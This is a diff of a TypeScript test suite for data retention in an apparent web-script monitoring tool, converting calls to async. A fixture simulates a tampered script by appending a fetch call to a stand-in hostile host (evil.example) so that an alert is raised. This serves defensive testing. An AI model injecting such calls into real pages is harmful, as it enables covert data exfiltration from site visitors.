@@ -10,21 +10,21 @@ import { APP, healthyShop, INLINE_A, INLINE_B, LIB, pageCapture, script } from '
 import { tempProject } from '../fixtures/cli.js';
 import { rawDb } from '../fixtures/raw-db.js';
 
-function history(): { store: Store; alertScan: number } {
-  const store = openStore(join(tempProject('sw-retain-'), 'sw.db'));
-  const scan = (capture = healthyShop(), evidence?: { name: string; bytes: Buffer }[]) => {
-    const plan = planScan(capture, store.scans.readBaseline(capture.target, capture.profile), { removalThreshold: 2 });
+async function history(): Promise<{ store: Store; alertScan: number }> {
+  const store = await openStore(join(tempProject('sw-retain-'), 'sw.db'));
+  const scan = async (capture = healthyShop(), evidence?: { name: string; bytes: Buffer }[]) => {
+    const plan = planScan(capture, await store.scans.readBaseline(capture.target, capture.profile), { removalThreshold: 2 });
     if (evidence) plan.evidence = evidence;
     return store.scans.applyPlan(plan);
   };
   // The CDN answers from another address on each load: the same bodies, other metadata, a set of their own each.
   const cdn = (i: number) => pageCapture([APP, { ...LIB, remoteIp: `192.0.2.${100 + i}` }, INLINE_A, INLINE_B]);
-  scan();
-  store.alerts.approveAll({ by: 'alice', note: 'baseline', at: '2026-11-22T09:00:00.000Z' });
-  for (let i = 0; i < 5; i++) scan(cdn(i));
-  const changed = scan(pageCapture([script({ kind: 'external', url: APP.url, body: `${APP.body}\nfetch("https://evil.example/c")` }), LIB, INLINE_A, INLINE_B]),
+  await scan();
+  await store.alerts.approveAll({ by: 'alice', note: 'baseline', at: '2026-11-22T09:00:00.000Z' });
+  for (let i = 0; i < 5; i++) await scan(cdn(i));
+  const changed = await scan(pageCapture([script({ kind: 'external', url: APP.url, body: `${APP.body}\nfetch("https://evil.example/c")` }), LIB, INLINE_A, INLINE_B]),
     [{ name: 'screenshot.png', bytes: Buffer.from('\x89PNG fake') }]);
-  for (let i = 5; i < 8; i++) scan(cdn(i));
+  for (let i = 5; i < 8; i++) await scan(cdn(i));
   return { store, alertScan: changed.scanId };
 }
 
@@ -33,12 +33,12 @@ const ALL = 'SELECT COUNT(*) AS n FROM set_scripts';
 const OF_SCAN = 'SELECT COUNT(*) AS n FROM set_scripts WHERE set_id = (SELECT set_id FROM scans WHERE id = ?)';
 
 describe('retention', () => {
-  it('prunes repeated observations and keeps the chain verifiable', () => {
-    const { store, alertScan } = history();
+  it('prunes repeated observations and keeps the chain verifiable', async () => {
+    const { store, alertScan } = await history();
     const before = count(store, ALL);
     const perScan = count(store, OF_SCAN, 1);
     assert.equal(count(store, 'SELECT COUNT(*) AS n FROM observation_sets'), 10, 'every scan saw something new');
-    const report = store.scans.retain('2999-01-01T00:00:00.000Z');
+    const report = await store.scans.retain('2999-01-01T00:00:00.000Z');
     const afterCount = count(store, ALL);
     assert.ok(report.observationsRemoved > 0 && afterCount === before - report.observationsRemoved);
     assert.equal(count(store, OF_SCAN, 1), perScan, 'first sightings are kept');
@@ -48,26 +48,26 @@ describe('retention', () => {
     assert.equal(report.scans, 8, 'every scan but the alerting one and the latest (the first keeps its rows: first sightings)');
     assert.equal(count(store, 'SELECT COUNT(*) AS n FROM evidence WHERE scan_id = ?', alertScan), 1, 'evidence is never pruned');
     assert.equal(count(store, "SELECT COUNT(*) AS n FROM baseline WHERE state = 'approved'") > 0, true, 'baselines stay');
-    assert.equal(store.alerts.list({ status: 'all' }).length, 1);
-    const report2 = store.scans.verify();
+    assert.equal((await store.alerts.list({ status: 'all' })).length, 1);
+    const report2 = await store.scans.verify();
     assert.equal(report2.ok, true, JSON.stringify(report2.firstBreak));
-    assert.equal(store.scans.retain('2999-01-01T00:00:00.000Z').scans, 0, 'a pruned scan is not pruned twice');
+    assert.equal((await store.scans.retain('2999-01-01T00:00:00.000Z')).scans, 0, 'a pruned scan is not pruned twice');
     // The digest is kept once, on the pruned set, not stamped on each of its scans.
     assert.equal(count(store, 'SELECT COUNT(*) AS n FROM scans WHERE observations_digest IS NOT NULL OR pruned_at IS NOT NULL'), 0);
     assert.equal(count(store, 'SELECT COUNT(*) AS n FROM observation_sets WHERE pruned_digest IS NOT NULL'), 8);
     rawDb(store).prepare('UPDATE observation_sets SET pruned_digest = ? WHERE id = (SELECT set_id FROM scans WHERE id = 4)').run('0'.repeat(64));
-    assert.match(store.scans.verify().firstBreak?.reason ?? '', /^scan #4 .* does not match its hash/);
+    assert.match((await store.scans.verify()).firstBreak?.reason ?? '', /^scan #4 .* does not match its hash/);
 
     rawDb(store).prepare('UPDATE scans SET observations_digest = ? WHERE id = 3').run('0'.repeat(64));
-    assert.match(store.scans.verify().firstBreak?.reason ?? '', /^scan #3 .* does not match its hash/);
-    store.close();
+    assert.match((await store.scans.verify()).firstBreak?.reason ?? '', /^scan #3 .* does not match its hash/);
+    await store.close();
   });
 
-  it('keeps everything newer than the cutoff', () => {
-    const { store } = history();
+  it('keeps everything newer than the cutoff', async () => {
+    const { store } = await history();
     const before = count(store, ALL);
-    assert.deepEqual(store.scans.retain('2000-01-01T00:00:00.000Z'), { scans: 0, observationsRemoved: 0 });
+    assert.deepEqual(await store.scans.retain('2000-01-01T00:00:00.000Z'), { scans: 0, observationsRemoved: 0 });
     assert.equal(count(store, ALL), before);
-    store.close();
+    await store.close();
   });
 });
